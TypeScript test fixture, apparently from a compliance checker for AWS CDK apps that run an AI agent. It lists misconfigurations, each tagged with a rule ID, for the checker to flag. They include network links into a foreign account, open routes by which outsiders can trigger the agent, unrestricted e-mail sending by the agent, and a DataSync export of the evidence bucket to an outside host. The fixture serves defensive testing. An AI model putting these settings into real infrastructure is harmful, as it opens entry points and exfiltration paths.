import { EventApi, AppSyncAuthorizationType } from 'aws-cdk-lib/aws-appsync';
import * as cloudfront from 'aws-cdk-lib/aws-cloudfront';
import { FunctionUrlOrigin, HttpOrigin } from 'aws-cdk-lib/aws-cloudfront-origins';
import * as codebuild from 'aws-cdk-lib/aws-codebuild';
import { CfnRoute } from 'aws-cdk-lib/aws-ec2';
import * as iam from 'aws-cdk-lib/aws-iam';
import { FunctionUrlAuthType } from 'aws-cdk-lib/aws-lambda';
import { SnsEventSource } from 'aws-cdk-lib/aws-lambda-event-sources';
import * as ses from 'aws-cdk-lib/aws-ses';
import { Sns } from 'aws-cdk-lib/aws-ses-actions';
import { Topic } from 'aws-cdk-lib/aws-sns';
import { CfnResource } from 'aws-cdk-lib/core';
import type { Construct } from 'constructs';
import type { Neighbour } from './apps/app';
import { starterIn } from './apps/governed';
import type { CdkAttack } from './cdk-attacks';

const FOREIGN = '999988887777';

const of = (scope: Construct, id: string, type: string, properties: Record<string, unknown>) =>
  new CfnResource(scope, id, { type, properties });

/** The first resource of a type below a construct. */
const first = (scope: Construct, type: string) =>
  scope.node.findAll().find((each) => CfnResource.isCfnResource(each) && each.cfnResourceType === type) as CfnResource;

const vpcOf = ({ networkStack }: Neighbour) => first(networkStack, 'AWS::EC2::VPC').ref;
const subnetOf = ({ networkStack }: Neighbour) => first(networkStack, 'AWS::EC2::Subnet').ref;
const tableOf = ({ networkStack }: Neighbour) => first(networkStack, 'AWS::EC2::RouteTable').ref;

const topicOfStarter = (neighbour: Neighbour, scope: Construct) => {
  const topic = new Topic(scope, 'Topic', { masterKey: neighbour.key, enforceSSL: true });
  starterIn(scope, neighbour).addEventSource(new SnsEventSource(topic));
  return topic;
};

const roleOf = (scope: Construct, service: string) =>
  new iam.Role(scope, 'Role', { assumedBy: new iam.ServicePrincipal(service) });

/** Attacks in CDK code by newer services, and by entries and ways out that a grant or an override opens. */
export const CDK_SERVICE_ATTACKS: readonly CdkAttack[] = [
  {
    name: 'an endpoint of a service network of another account',
    rules: ['MA-NET3'],
    apply: (neighbour) =>
      of(neighbour.networkStack, 'ServiceNetwork', 'AWS::EC2::VPCEndpoint', {
        VpcId: vpcOf(neighbour),
        VpcEndpointType: 'ServiceNetwork',
        ServiceNetworkArn: `arn:aws:vpc-lattice:us-east-1:${FOREIGN}:servicenetwork/sn-0a1b2c3d4e5f67890`,
        SubnetIds: [subnetOf(neighbour)],
      }),
  },
  {
    name: 'a route to an Oracle network of another account',
    rules: ['MA-NET1'],
    apply: (neighbour) =>
      new CfnRoute(neighbour.networkStack, 'Odb', {
        routeTableId: tableOf(neighbour),
        destinationCidrBlock: '10.99.0.0/16',
        odbNetworkArn: `arn:aws:odb:us-east-1:${FOREIGN}:odb-network/odbnet_abc`,
      }),
  },
  {
    name: 'a route server that propagates routes into the table of the agent',
    rules: ['MA-NET1'],
    apply: (neighbour) => {
      const server = of(neighbour.networkStack, 'Server', 'AWS::EC2::RouteServer', { AmazonSideAsn: 65000 });
      of(neighbour.networkStack, 'Propagation', 'AWS::EC2::RouteServerPropagation', {
        RouteServerId: server.ref,
        RouteTableId: tableOf(neighbour),
      });
    },
  },
  {
    name: 'a private connection of AWS DevOps Agent in the subnets of the agent',
    rules: ['MA-NET1'],
    apply: (neighbour) =>
      of(neighbour.networkStack, 'Connection', 'AWS::DevOpsAgent::PrivateConnection', {
        Name: 'tools',
        ConnectionConfiguration: {
          ServiceManaged: {
            HostAddress: 'mcp.example.net',
            VpcId: vpcOf(neighbour),
            SubnetIds: [subnetOf(neighbour)],
          },
        },
      }),
  },
  {
    name: 'a distribution that signs requests of everybody to the URL of a starter',
    rules: ['MA-TRG3'],
    apply: (neighbour, scope) => {
      const url = starterIn(scope, neighbour).addFunctionUrl({ authType: FunctionUrlAuthType.AWS_IAM });
      new cloudfront.Distribution(scope, 'Distribution', {
        defaultBehavior: { origin: FunctionUrlOrigin.withOriginAccessControl(url) },
      });
    },
  },
  {
    name: 'a starter at the edge of a distribution',
    rules: ['MA-TRG3'],
    apply: (neighbour, scope) =>
      new cloudfront.Distribution(scope, 'Distribution', {
        defaultBehavior: {
          origin: new HttpOrigin('example.com'),
          edgeLambdas: [
            {
              functionVersion: starterIn(scope, neighbour).currentVersion,
              eventType: cloudfront.LambdaEdgeEventType.ORIGIN_REQUEST,
              includeBody: true,
            },
          ],
        },
      }),
  },
  {
    name: 'a channel of AWS AppSync Events with an API key before a starter',
    rules: ['MA-TRG3'],
    apply: (neighbour, scope) => {
      const api = new EventApi(scope, 'Events', {
        apiName: 'events',
        authorizationConfig: { authProviders: [{ authorizationType: AppSyncAuthorizationType.API_KEY }] },
      });
      const dataSource = api.addLambdaDataSource('starter', starterIn(scope, neighbour));
      api.addChannelNamespace('turns', { publishHandlerConfig: { dataSource, direct: true } });
    },
  },
  {
    name: 'e-mail that is published to the topic of a starter',
    rules: ['MA-TRG3'],
    apply: (neighbour, scope) =>
      new ses.ReceiptRuleSet(scope, 'Mail', {
        rules: [{ recipients: ['bot@example.com'], actions: [new Sns({ topic: topicOfStarter(neighbour, scope) })] }],
      }),
  },
  {
    name: 'text messages to a number that are published to the topic of a starter',
    rules: ['MA-TRG3'],
    apply: (neighbour, scope) => {
      const topic = topicOfStarter(neighbour, scope);
      const role = roleOf(scope, 'sms-voice.amazonaws.com');
      topic.grantPublish(role);
      of(scope, 'Number', 'AWS::SMSVOICE::PhoneNumber', {
        IsoCountryCode: 'US',
        NumberType: 'TEN_DLC',
        NumberCapabilities: ['SMS'],
        MandatoryKeywords: { HELP: { Message: 'help' }, STOP: { Message: 'stop' } },
        TwoWay: { Enabled: true, ChannelArn: topic.topicArn, ChannelRole: role.roleArn },
      });
    },
  },
  {
    name: 'pull requests that are built under a role that starts turns',
    rules: ['MA-TRG3'],
    apply: ({ workflow, key }, scope) => {
      const { FilterGroup, EventAction, Source } = codebuild;
      const project = new codebuild.Project(scope, 'Build', {
        encryptionKey: key,
        source: Source.gitHub({
          owner: 'example',
          repo: 'shop',
          webhook: true,
          webhookFilters: [FilterGroup.inEventOf(EventAction.PULL_REQUEST_CREATED)],
        }),
      });
      workflow.grants.startTurns(project);
    },
  },
  {
    name: 'an open web function under a role that starts turns',
    rules: ['MA-TRG3'],
    apply: ({ workflow }, scope) => {
      const role = roleOf(scope, 'lambda.amazonaws.com');
      workflow.grants.startTurns(role);
      const web = of(scope, 'Web', 'AWS::Lambda::WebFunction', { FunctionName: 'web' });
      of(scope, 'Revision', 'AWS::Lambda::WebFunctionRevision', {
        FunctionName: web.ref,
        BuildConfig: {
          CodeConfig: { S3Object: { Bucket: 'code-of-web', Key: 'archive.zip' } },
          RuntimeConfig: { Runtime: 'nodejs24' },
        },
        ServiceConfig: { ExecutionRoleArn: role.roleArn },
      });
      of(scope, 'Endpoint', 'AWS::Lambda::WebFunctionEndpoint', {
        FunctionName: web.ref,
        EndpointName: 'live',
        EndpointType: 'HomeRegion',
        AuthType: 'ApplicationManaged',
      });
    },
  },
  {
    name: 'e-mail that the agent sends to anybody',
    rules: ['MA-ID7'],
    apply: ({ agent }, scope) =>
      new ses.EmailIdentity(scope, 'Identity', { identity: ses.Identity.domain('example.com') }).grantSendEmail(agent),
  },
  {
    name: 'a log group that accepts bearer tokens by an override',
    rules: ['MA-AUD3'],
    apply: ({ stack }) =>
      first(stack, 'AWS::Logs::LogGroup').addPropertyOverride('BearerTokenAuthenticationEnabled', true),
  },
  {
    name: 'an export of the evidence to a host by AWS DataSync',
    rules: ['MA-STO1'],
    apply: ({ workflow }, scope) => {
      const role = roleOf(scope, 'datasync.amazonaws.com');
      workflow.evidenceBucket.grantRead(role);
      const from = of(scope, 'From', 'AWS::DataSync::LocationS3', {
        S3BucketArn: workflow.evidenceBucket.bucketArn,
        S3Config: { BucketAccessRoleArn: role.roleArn },
      });
      const to = of(scope, 'To', 'AWS::DataSync::LocationObjectStorage', {
        ServerHostname: 'store.example.net',
        BucketName: 'evidence',
      });
      of(scope, 'Task', 'AWS::DataSync::Task', { SourceLocationArn: from.ref, DestinationLocationArn: to.ref });
    },
  },
];
